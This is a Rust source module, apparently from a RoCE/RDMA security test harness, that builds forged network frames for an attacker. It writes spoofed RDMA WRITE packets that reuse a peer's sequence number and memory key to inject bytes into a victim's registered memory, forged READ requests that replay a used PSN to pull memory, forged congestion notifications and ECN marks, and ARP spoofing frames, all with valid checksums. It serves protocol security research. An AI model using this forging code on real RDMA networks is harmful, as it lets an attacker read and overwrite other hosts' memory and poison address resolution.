//! Frames that the attacker makes up.

use roce::id::{Gid, Mac, PKey, Qpn, RKey};
use roce::psn::Psn;
use roce::wire::{
    HeaderSpec, HeaderTemplate, Opcode, PacketSpec, PrecedingReads, Reth, flow_label_from_qpns,
    udp_source_port,
};

use super::network::{MESSAGE_BYTES, Stage};
use crate::live::TARGET;

/// What the forged payloads are filled with.
pub(super) const FORGED: u8 = 0xEE;
/// Offset in a host's memory to which forged WRITEs go: behind the honest ones.
pub(super) const FORGED_OFFSET: usize = TARGET + 65_536;
/// ECN "congestion experienced", in the type of service.
const CONGESTION_EXPERIENCED: u8 = 3;

/// A packet to one end of the connection, which the other could have sent.
#[derive(Clone, Copy, Debug)]
pub(super) struct Forged {
    pub(super) header: HeaderSpec,
    pub(super) opcode: Opcode,
    pub(super) psn: u32,
    pub(super) reth: Reth,
    pub(super) payload_len: usize,
    pub(super) becn: bool,
}

impl Forged {
    /// The next RDMA WRITE of host `1 - to`, to the letter, but for what it writes and where.
    pub(super) fn write(stage: &Stage, to: usize) -> Forged {
        let (victim, other) = (&stage.ends[to], &stage.ends[1 - to]);
        let (dest_qp, src_qp) = (Qpn::new(victim.qp_reply().qpn), Qpn::new(other.qp_reply().qpn));
        Forged {
            header: HeaderSpec {
                src_mac: stage.macs[1 - to],
                dst_mac: stage.macs[to],
                vlan: None,
                src: stage.gid(1 - to),
                dst: stage.gid(to),
                tclass: 2,
                ttl: 64,
                flow_label: 0,
                udp_source_port: udp_source_port(flow_label_from_qpns(src_qp, dest_qp)),
                pkey: PKey::DEFAULT,
                dest_qp,
            },
            opcode: Opcode::RC_RDMA_WRITE_ONLY,
            psn: stage.next_psn(1 - to),
            reth: Reth {
                va: victim.mr.addr + FORGED_OFFSET as u64,
                rkey: RKey(victim.mr.rkey),
                len_bytes: MESSAGE_BYTES as u32,
            },
            payload_len: MESSAGE_BYTES,
            becn: false,
        }
    }

    /// A READ of `len_bytes` in the place of a packet that was sent already: `psn`.
    pub(super) fn read(stage: &Stage, to: usize, psn: u32, len_bytes: u32) -> Forged {
        let write = Forged::write(stage, to);
        let va = stage.ends[to].mr.addr;
        Forged {
            opcode: Opcode::RC_RDMA_READ_REQUEST,
            psn,
            reth: Reth { va, len_bytes, ..write.reth },
            payload_len: 0,
            ..write
        }
    }

    /// A congestion notification packet.
    pub(super) fn cnp(stage: &Stage, to: usize) -> Forged {
        let write = Forged::write(stage, to);
        Forged { opcode: Opcode::CNP, psn: 0, payload_len: 0, becn: true, ..write }
    }

    pub(super) fn marked(mut self) -> Forged {
        self.header.tclass = CONGESTION_EXPERIENCED;
        self
    }

    /// The frame, with a right ICRC.
    pub(super) fn frame(&self) -> Vec<u8> {
        let template = HeaderTemplate::new(&self.header).expect("both addresses are of one family");
        let info = self.opcode.info().expect("an opcode of the table");
        let spec = PacketSpec {
            opcode: self.opcode,
            solicited: false,
            ack_req: true,
            preceding_reads: PrecedingReads::NONE,
            fecn: false,
            becn: self.becn,
            psn: Psn::new(self.psn),
            ip_id: 0,
            payload_len: self.payload_len,
        };
        let mut frame = vec![0; template.frame_len(info.ext_len_bytes, self.payload_len)];
        let mut parts = template.write(&mut frame, &spec).expect("the frame has room");
        parts.payload.fill(FORGED);
        let _ = parts.set_reth(self.reth);
        template.seal(&mut frame).expect("the frame is whole");
        frame
    }
}

/// An ARP packet in a frame from the attacker to `dst`, which says that `sender_ip` is at `sender_mac`.
pub(super) fn arp(
    is_reply: bool,
    dst: Mac,
    sender: (Mac, Gid),
    target: (Mac, Gid),
    vlan: Option<u16>,
) -> Vec<u8> {
    let ip = |gid: Gid| gid.0[12..].to_vec();
    let tag = vlan.map_or(Vec::new(), |tci| [[0x81, 0x00], tci.to_be_bytes()].concat());
    let arp = [0, 1, 8, 0, 6, 4, 0, 1 + u8::from(is_reply)];
    [
        &dst.0[..],
        &super::network::ATTACKER_MAC.0,
        &tag,
        &[0x08, 0x06],
        &arp,
        &sender.0.0,
        &ip(sender.1),
        &target.0.0,
        &ip(target.1),
        &[0; 18],
    ]
    .concat()
}
